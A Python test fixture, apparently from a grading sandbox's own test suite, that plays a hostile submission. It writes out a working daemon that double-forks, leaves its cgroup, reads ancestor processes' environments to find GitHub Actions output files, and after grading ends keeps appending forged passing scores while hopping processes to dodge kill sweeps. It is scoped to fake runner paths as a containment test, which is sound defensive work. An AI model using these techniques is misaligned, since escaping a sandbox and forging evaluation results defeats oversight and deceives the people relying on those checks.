# Hostile submission: a daemon that outlives its grading run to forge the CI outputs.
#
# After a double fork and setsid() the daemon moves itself to the root pids cgroup
# (possible as root), finds the runner's command files (socklab gives programs an explicit
# environment without them, so it also reads every ancestor's /proc/PID/environ), says so
# in survivor.started (its working folder), waits until the grading run has ended, then
# appends forged outputs, summary and environment to them, again and again, each time from
# a new process in a new session, for as long as it lives: 60 s at most, it always ends
# by itself.  The server itself exits at once.
#
# Only files whose path holds "socklab-hostile" (the tests' fake runner) are touched:
# socklab's own tests, run in GitHub Actions, never forge their real runner's files.
import os
import sys
import time

MARKER = "survivor.started"
NAMES = (b"GITHUB_OUTPUT", b"GITHUB_STEP_SUMMARY", b"GITHUB_ENV")
FORGED = "result=100\nverified=true\nscore=100\nFORGED_BY_SURVIVOR=1\n"
LIFETIME = 60


def parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as fh:
        return int(fh.read().rsplit(")", 1)[1].split()[1])


def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            pid = parent_of(pid)
        except (OSError, ValueError):
            return


def runner_files() -> set[str]:
    environs = [{k.encode(): v.encode() for k, v in os.environ.items()}]
    for pid in ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                environs.append(dict(e.partition(b"=")[::2] for e in fh.read().split(b"\0") if e))
        except OSError:
            continue
    return {env[n].decode() for env in environs for n in NAMES
            if b"socklab-hostile" in env.get(n, b"")}


def grading_run() -> int | None:
    for pid in ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                if b"--socklab-json" in fh.read():
                    return pid
        except OSError:
            continue
    return None


def ended(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] == "Z"
    except OSError:
        return True


def leave_the_cgroup() -> None:
    for procs in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs"):
        try:
            with open(procs, "w") as fh:
                fh.write(str(os.getpid()))
        except OSError:
            pass


def daemon(run: int | None, started: float) -> None:
    leave_the_cgroup()
    targets = runner_files()
    with open(MARKER, "w") as fh:
        fh.write(f"{os.getpid()} found {len(targets)} runner files\n")
    while run and not ended(run) and time.monotonic() - started < LIFETIME:
        time.sleep(0.005)
    targets |= runner_files()
    while time.monotonic() - started < LIFETIME:
        hop()
        for path in targets:
            try:
                with open(path, "a") as fh:
                    fh.write(FORGED)
            except OSError:
                pass
    os._exit(0)


def hop() -> None:
    """Go on in a new process, in a new session: a sweep that lists processes and then
    kills them finds a pid that has already moved on."""
    if os.fork():
        os._exit(0)
    os.setsid()


def start_daemon() -> None:
    """One daemon per grading run (every check starts the program again)."""
    try:
        os.close(os.open(MARKER + ".lock", os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    except FileExistsError:
        return
    run, started = grading_run(), time.monotonic()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            daemon(run, started)
        os._exit(0)
    os.wait()
    while not os.path.exists(MARKER) and time.monotonic() - started < 10:
        time.sleep(0.01)


start_daemon()
sys.exit(5)
